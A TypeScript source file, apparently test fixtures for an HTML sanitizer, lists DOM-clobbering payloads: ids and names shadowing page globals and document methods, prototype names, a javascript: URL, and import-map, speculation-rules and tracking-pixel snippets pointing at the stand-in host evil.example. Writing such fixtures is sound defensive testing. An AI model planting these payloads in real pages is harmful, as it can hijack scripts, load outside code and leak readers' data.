import type { HostilePayload } from './types';

/** Names, classes and attributes that pretend to be a part of the page. */
export const clobberingPayloads: readonly HostilePayload[] = [
  { name: 'id of a global', html: '<a id="__next_f" href="https://evil.example">x</a><p id="__xss">x</p>' },
  {
    name: 'ids of the document',
    html: '<img name="cookie"><img name="body"><p id="getElementById">x</p><p id="documentElement">y</p>',
  },
  {
    name: 'form that hides its own methods',
    html: '<form id="x"><input name="attributes"><input name="submit"><input name="parentNode"></form>',
  },
  {
    name: 'collection of two ids',
    html: '<a id="config"></a><a id="config" name="url" href="https://evil.example">x</a>',
  },
  { name: 'nested windows', html: '<iframe name="self" srcdoc="<a id=top></a>"></iframe>' },
  { name: 'id that takes the main landmark', html: '<h2 id="main">x</h2><p id="main">y</p>' },
  { name: 'id that takes a fragment of ours', html: '<p id="h-标题">x</p><h2>标题</h2>' },
  { name: 'anchor with a name of a global', html: '<a name="alert"></a><a name="localStorage"></a>' },
  { name: 'object with a name', html: '<object name="React"></object><embed name="webpackChunk">' },
  { name: 'output with a name', html: '<output name="x" id="history">1</output><fieldset name="location"></fieldset>' },
  {
    name: 'class of ours',
    html: '<div class="code-block" data-action="copy">x</div><a class="anchor" data-zoom href="javascript:window.__xss=1">x</a>',
  },
  {
    name: 'data that our scripts read',
    html: '<p data-html="content:x" data-action="retry">x</p><button data-action="copy">x</button>',
  },
  {
    name: 'attributes that name other elements',
    html: '<p aria-labelledby="main" aria-owns="main" for="main" form="x" list="x" headers="x">x</p>',
  },
  { name: 'role that pretends', html: '<div role="button" tabindex="0" aria-label="登录">x</div>' },
  { name: 'prototype in attributes', html: '<p __proto__="x" constructor="y" tostring="z" hasownproperty="q">x</p>' },
  {
    name: 'prototype in tag names',
    html: '<__proto__>x</__proto__><constructor>y</constructor><tostring>z</tostring>',
  },
  {
    name: 'prototype in a class',
    html: '<pre><code class="language-constructor">x</code></pre><pre><code class="language-__proto__">y</code></pre>',
  },
  {
    name: 'prototype in a heading',
    html: '<h2>constructor</h2><h2>__proto__</h2><h2>constructor</h2><h2>toString</h2>',
  },
  {
    name: 'microdata and structured data',
    html: '<script type="application/ld+json">{"@context":"x"}</script><p itemscope itemprop="x" itemtype="https://evil.example">x</p>',
  },
  {
    name: 'speculation rules',
    html: '<script type="speculationrules">{"prerender":[{"urls":["https://evil.example/"]}]}</script>',
  },
  { name: 'import map', html: '<script type="importmap">{"imports":{"react":"https://evil.example/x.js"}}</script>' },
  {
    name: 'tracking by an image that says who reads',
    html: '<img src="https://evil.example/t.gif" referrerpolicy="unsafe-url" crossorigin="use-credentials" fetchpriority=high>',
  },
];
